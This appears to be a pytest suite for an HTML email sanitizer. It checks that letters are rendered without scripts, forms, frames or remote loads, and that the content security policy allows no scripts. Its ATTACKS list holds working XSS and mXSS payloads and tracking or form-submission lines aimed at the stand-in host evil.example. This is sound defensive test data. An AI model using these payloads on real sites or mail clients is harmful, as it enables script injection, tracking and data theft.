"""Letters as they were laid out: nothing in them runs, nothing is read from elsewhere unasked."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from agent_ui.letters import INLINE_BYTES, lay_out, policy

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    '<form action="https://evil.example"><input name=p><button>x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<div style="background:url(https://evil.example/x.gif)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    '<img src="https://evil.example/x.gif">',
    '<img srcset="https://evil.example/x.gif 2x">',
    '<table background="https://evil.example/x.gif"><tr><td>x</td></tr></table>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<video src="https://evil.example/x.mp4"></video>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
)


def check_harmless(html: str) -> None:
    """Nothing in the page runs, submits, navigates by itself or reads anything from elsewhere."""
    tree = LexborHTMLParser(html)
    allowed = {"html", "head", "meta", "style", "body"}
    for node in tree.css(
        "script, iframe, object, embed, form, input, button, base, link, svg, math, video, audio"
    ):
        pytest.fail(f"{node.tag} is left in {html}")
    assert len(tree.css("meta")) == len(tree.css("style")) == 1, allowed
    for node in tree.css("body *"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), html
            assert name not in ("srcset", "background", "action", "formaction", "poster"), html
            address = (value or "").strip().lower()
            if name == "href":
                assert (
                    address.startswith(("http://", "https://", "mailto:", "tel:", "#", "/"))
                    or ":" not in address
                )
            if name == "src":
                assert address.startswith("data:image/"), html
            if name == "style":
                assert "url(" not in address, html
                assert "position" not in address, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_letter_runs_or_calls_home(attack: str) -> None:
    check_harmless(lay_out(f"<p>Здравствуйте</p>{attack}<p>конец</p>", {}, remote=False).html)


@given(
    st.lists(
        st.sampled_from((*ATTACKS, "<", ">", '"', "'", "<p>", "</p>", "<!--", "-->", "\0", "я", "&lt;")),
        max_size=12,
    )
)
def test_no_mixture_of_tricks_helps(pieces: list[str]) -> None:
    check_harmless(lay_out("".join(pieces), {}, remote=False).html)


@given(st.text())
def test_any_text_is_laid_out(text: str) -> None:
    check_harmless(lay_out(text, {}, remote=False).html)


def test_remote_pictures_are_counted_and_shown_only_when_asked_for() -> None:
    letter = '<img src="https://shop.example/a.png"><img src="http://shop.example/b.png">'
    kept_out = lay_out(letter, {}, remote=False)
    assert kept_out.left_out == 2
    assert "shop.example" not in kept_out.html
    assert "https://shop.example/a.png" in lay_out(letter, {}, remote=True).html
    assert "https:" not in policy(remote=False)
    assert "img-src data: https:" in policy(remote=True)


def test_a_picture_inside_the_letter_is_shown_in_its_place() -> None:
    letter = lay_out(
        '<img src="cid:logo@x"><img src="cid:gone">', {"logo@x": ("image/png", b"\x89PNG")}, remote=False
    )
    assert re.search(r'<img src="data:image/png;base64,iVBORw==">', letter.html)
    assert letter.left_out == 0


def test_pictures_beyond_measure_are_left_as_files() -> None:
    large = b"x" * (INLINE_BYTES // 2 + 1)
    pictures = {"a": ("image/png", large), "b": ("image/png", large)}
    assert (
        lay_out('<img src="cid:a"><img src="cid:b">', pictures, remote=False).html.count("data:image/png")
        == 1
    )


def test_what_makes_a_letter_readable_stays() -> None:
    letter = lay_out(
        '<table border="1"><tr><td style="color:red;text-align:right" colspan="2">1 450 ₽</td></tr></table>'
        '<a href="https://example.com/?a=1&b=2">сайт</a><ul><li>раз</li></ul><font color="#333">x</font>',
        {},
        remote=False,
    ).html
    for kept in (
        'border="1"',
        "color:red",
        "text-align:right",
        'colspan="2"',
        "1 450 ₽",
        "<li>раз</li>",
        "<font",
    ):
        assert kept in letter
    assert 'target="_blank"' in letter
    assert "noopener" in letter


def test_the_frame_of_a_letter_runs_nothing() -> None:
    for remote in (False, True):
        rules = policy(remote=remote)
        assert "default-src 'none'" in rules
        assert "script-src" not in rules
        assert "allow-scripts" not in rules
        assert "form-action 'none'" in rules
        assert "frame-ancestors 'self'" in rules
